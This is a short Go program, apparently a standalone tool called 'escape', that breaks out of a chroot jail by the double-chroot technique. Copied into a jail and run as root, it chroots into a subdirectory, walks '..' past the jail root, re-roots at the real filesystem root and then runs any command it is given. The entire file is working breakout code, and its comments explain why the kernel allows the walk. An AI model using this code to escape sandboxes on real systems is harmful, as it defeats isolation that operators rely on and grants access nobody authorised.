// Command escape leaves a chroot jail, the classic way. Copy it into a
// root filesystem and run it there as root:
//
//	escape COMMAND [ARG...]
//
// It runs COMMAND in whatever root it managed to reach.
package main

import (
	"fmt"
	"os"
	"os/exec"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: escape COMMAND [ARG...]")
		os.Exit(2)
	}
	if err := escape(); err != nil {
		fmt.Fprintln(os.Stderr, "escape:", err)
		os.Exit(1)
	}
	path, err := exec.LookPath(os.Args[1])
	if err == nil {
		err = unix.Exec(path, os.Args[1:], os.Environ())
	}
	if err != nil {
		fmt.Fprintf(os.Stderr, "escape: exec %s: %v\n", os.Args[1], err)
		os.Exit(127)
	}
}

// escape chroots into a subdirectory without entering it. The working
// directory is now outside the process's root, and the kernel only stops a
// ".." walk when it meets the root: walking up from outside never meets it,
// so it ends at the real root of the mount namespace, which becomes our root.
func escape() error {
	const jail = "/.escape"
	if err := os.MkdirAll(jail, 0o700); err != nil {
		return err
	}
	if err := unix.Chroot(jail); err != nil {
		return fmt.Errorf("chroot %s: %w", jail, err)
	}
	for range 100 {
		if err := unix.Chdir(".."); err != nil {
			return fmt.Errorf("chdir ..: %w", err)
		}
	}
	if err := unix.Chroot("."); err != nil {
		return fmt.Errorf("chroot .: %w", err)
	}
	return unix.Chdir("/")
}
